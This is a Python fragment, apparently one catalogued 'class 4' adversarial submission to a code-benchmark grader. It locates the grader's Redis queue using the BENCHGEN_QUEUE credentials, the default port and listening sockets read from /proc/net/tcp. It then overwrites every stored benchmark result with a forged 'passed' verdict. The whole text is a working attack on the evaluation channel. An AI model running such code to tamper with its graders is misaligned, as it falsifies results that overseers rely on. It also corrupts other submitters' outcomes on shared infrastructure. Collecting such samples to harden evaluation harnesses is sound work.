    # class 4 (tampering with the result channel, through a queue): find the Redis a worker uses (BENCHGEN_QUEUE, listening sockets in /proc/net/tcp*, the usual port) and overwrite every stored benchgen result, and every result the submitter may look up later, with a pass; then answer nothing
    import os, re, socket
    _fg_pass = ('{"verdict": "passed", "tests": [], "exit_code": 0, "signal": null, "stdout": "", '
                '"stderr": "", "output_truncated": false, "leaked": false, "detail": "", '
                '"duration_s": 0.0}')

    def _fg_resp(*words):
        out = b'*%d\r\n' % len(words)
        for word in words:
            word = word if isinstance(word, bytes) else str(word).encode()
            out += b'$%d\r\n%s\r\n' % (len(word), word)
        return out

    def _fg_targets():
        found = [('127.0.0.1', 6379, None)]
        url = os.environ.get('BENCHGEN_QUEUE', '')
        match = re.match(r'rediss?://(?::([^@]*)@)?([^:/]+):(\d+)', url)
        if match:
            found.append((match.group(2), int(match.group(3)), match.group(1)))
        for name in ('/proc/net/tcp', '/proc/net/tcp6', '/proc/1/net/tcp'):
            try:
                lines = open(name).read().splitlines()[1:]
            except OSError:
                continue
            for line in lines:
                fields = line.split()
                if len(fields) > 3 and fields[3] == '0A':
                    found.append(('127.0.0.1', int(fields[1].rsplit(':', 1)[1], 16), None))
        return found

    for _fg_host, _fg_port, _fg_password in _fg_targets():
        try:
            _fg_sock = socket.create_connection((_fg_host, _fg_port), timeout=0.3)
        except OSError:
            continue
        try:
            if _fg_password:
                _fg_sock.sendall(_fg_resp('AUTH', _fg_password))
            _fg_sock.sendall(_fg_resp('SCAN', 0, 'MATCH', 'benchgen:result:*', 'COUNT', 100000))
            _fg_reply = _fg_sock.recv(1 << 20)
            for _fg_key in set(re.findall(rb'benchgen:result:[0-9a-f]{64}', _fg_reply)):
                _fg_sock.sendall(_fg_resp('SET', _fg_key, _fg_pass))
        except OSError:
            pass
        finally:
            _fg_sock.close()
    return None
